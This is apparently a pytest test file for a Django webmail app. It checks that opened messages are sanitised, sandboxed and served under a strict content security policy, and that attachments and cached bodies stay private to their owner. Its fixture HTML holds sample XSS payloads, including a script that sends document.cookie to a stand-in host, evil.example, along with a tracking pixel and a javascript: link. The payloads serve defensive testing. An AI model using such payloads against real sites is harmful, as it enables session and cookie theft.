"""Opening a message from the real INBOX: safe body, attachments byte for byte, read flag."""

from email.message import EmailMessage

import pytest
from django.urls import reverse

from mailbox.reading import MessageBody
from mailbox.services import body_cache, imap, smtp
from scripts.localstack import free_port

HOSTILE_HTML = (
    '<p onclick="steal()">Bonjour <b>Marie</b>,</p>'
    "<script>document.location='https://evil.example/'+document.cookie</script>"
    '<img src="https://tracker.example/pixel.gif" alt="pixel">'
    '<img src="cid:logo@college" alt="Logo du collège">'
    '<a href="javascript:alert(1)">piège</a> <a href="https://www.education.gouv.fr/">site</a>'
)
PDF = b"%PDF-1.4\n% bulletin\n" + bytes(range(256)) * 40
LOGO = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def deliver(sender, recipient, subject, html=HOSTILE_HTML):
    message = EmailMessage()
    message["From"] = f"{sender.get_full_name()} <{sender.mail_address}>"
    message["To"] = recipient.mail_address
    message["Subject"] = subject
    message.set_content("Bonjour Marie, voir https://www.education.gouv.fr/ pour le détail.")
    message.add_alternative(html, subtype="html")
    message.get_payload()[1].add_related(
        LOGO, maintype="image", subtype="png", cid="<logo@college>", filename="logo.png"
    )
    message.add_attachment(
        PDF, maintype="application", subtype="pdf", filename="Bulletin été 2026.pdf"
    )
    smtp.send(sender.mail_account, message.as_bytes(), [recipient.mail_address])
    with imap.session_for(recipient.mail_account) as session:
        return session.fetch_page("INBOX").messages[0].uid


@pytest.fixture
def opened(client, make_account):
    sender = make_account(first_name="Sophie", last_name="Leroy")
    reader = make_account(first_name="Marie", last_name="Martin")
    uid = deliver(sender, reader, "Bulletins du trimestre")
    client.force_login(reader)
    return client, reader, uid


def test_the_page_shows_headers_and_attachments_and_marks_the_message_read(opened):
    client, reader, uid = opened

    response = client.get(reverse("mailbox:message-detail", args=[uid, "INBOX"]))

    assert response.status_code == 200
    page = response.content.decode()
    assert "Bulletins du trimestre" in page
    assert "Sophie Leroy" in page
    assert "Bulletin été 2026.pdf" in page
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page
    assert response.context["remote_blocked"]
    with imap.session_for(reader.mail_account) as session:
        assert session.fetch_page("INBOX").messages[0].is_seen


def test_the_body_is_sanitised_and_locked_down(opened):
    client, _reader, uid = opened

    response = client.get(reverse("mailbox:message-body", args=[uid, "INBOX"]))

    body = response.content.decode()
    for forbidden in ("<script", "onclick", "javascript:", "tracker.example", "evil.example"):
        assert forbidden not in body
    assert "<b>Marie</b>" in body
    # The cid: logo points at its own part (mixed > alternative > related > image).
    assert reverse("mailbox:message-part", args=[uid, "1.2.2", "INBOX"]) in body
    csp = response["Content-Security-Policy"]
    assert "default-src 'none'" in csp
    assert "script-src" not in csp  # so nothing may run: default-src 'none' applies
    assert "sandbox" in csp
    assert "https:" not in csp


def test_remote_images_load_only_when_the_reader_asks(opened):
    client, _reader, uid = opened

    response = client.get(reverse("mailbox:message-body", args=[uid, "INBOX"]), {"images": "1"})

    assert "https://tracker.example/pixel.gif" in response.content.decode()
    assert "img-src 'self' https: http:" in response["Content-Security-Policy"]


def test_the_text_view_makes_links_clickable(opened):
    client, _reader, uid = opened

    body = client.get(
        reverse("mailbox:message-body", args=[uid, "INBOX"]), {"view": "text"}
    ).content.decode()

    assert '<a href="https://www.education.gouv.fr/"' in body
    assert 'rel="noopener noreferrer"' in body


def test_attachments_download_byte_for_byte(opened):
    client, _reader, uid = opened
    page = client.get(reverse("mailbox:message-detail", args=[uid, "INBOX"]))
    pdf = next(a for a in page.context["attachments"] if a.content_type == "application/pdf")

    response = client.get(
        reverse("mailbox:message-part", args=[uid, pdf.part_id, "INBOX"]), {"download": "1"}
    )

    assert response.content == PDF
    assert response["Content-Type"] == "application/octet-stream"
    assert "attachment" in response["Content-Disposition"]
    assert "Bulletin%20%C3%A9t%C3%A9%202026.pdf" in response["Content-Disposition"]


def test_someone_else_cannot_open_it_and_unknown_uids_are_404(opened, make_account, client):
    _client, _reader, uid = opened
    client.force_login(make_account())

    # The other person's own INBOX has no such message: the mailbox is per user.
    assert client.get(reverse("mailbox:message-detail", args=[uid, "INBOX"])).status_code == 404
    assert client.get(reverse("mailbox:message-detail", args=[999, "INBOX"])).status_code == 404


def test_the_frame_after_the_page_shows_the_same_safe_body_and_asks_again_for_images(opened):
    """The page keeps the sanitised body for its frame (mailbox/services/body_cache.py):
    the frame shows the same, and allowing images is still decided by the frame."""
    client, _reader, uid = opened
    body_url = reverse("mailbox:message-body", args=[uid, "INBOX"])
    fresh = client.get(body_url).content.decode()

    client.get(reverse("mailbox:message-detail", args=[uid, "INBOX"]))
    kept = client.get(body_url)
    with_images = client.get(body_url, {"images": "1"}).content.decode()

    assert kept.content.decode() == fresh
    assert "tracker.example" not in fresh
    assert "https:" not in kept["Content-Security-Policy"]
    assert "https://tracker.example/pixel.gif" in with_images


def test_a_kept_body_is_never_shown_to_another_account(opened, make_account):
    client, reader, uid = opened
    other = make_account()
    with imap.session_for(other.mail_account) as session:
        other_uidvalidity = session.uidvalidity("INBOX")
    # As if the reader's page had kept a body under the other INBOX's UIDVALIDITY (two
    # mailboxes made in the same second share it).
    kept = MessageBody(html="<p>Marie's message</p>", remote_content_blocked=False)
    body_cache.store(reader.mail_account, "INBOX", other_uidvalidity, uid, kept)
    client.force_login(other)

    response = client.get(reverse("mailbox:message-body", args=[uid, "INBOX"]))

    assert response.status_code == 404
    assert "Marie" not in response.content.decode()


def test_without_redis_the_page_and_its_frame_still_show_the_message(opened, settings):
    client, _reader, uid = opened
    settings.REDIS_URL = f"redis://127.0.0.1:{free_port()}/0"  # nothing listens there

    page = client.get(reverse("mailbox:message-detail", args=[uid, "INBOX"]))
    body = client.get(reverse("mailbox:message-body", args=[uid, "INBOX"]))

    assert page.status_code == body.status_code == 200
    assert "<b>Marie</b>" in body.content.decode()


def test_kept_bodies_are_forgotten_with_the_accounts_mailbox(opened):
    client, reader, uid = opened
    client.get(reverse("mailbox:message-detail", args=[uid, "INBOX"]))
    with imap.session_for(reader.mail_account) as session:
        uidvalidity = session.uidvalidity("INBOX")
    assert body_cache.read(reader.mail_account, "INBOX", uidvalidity, uid) is not None

    body_cache.forget_account(reader.username)

    assert body_cache.read(reader.mail_account, "INBOX", uidvalidity, uid) is None
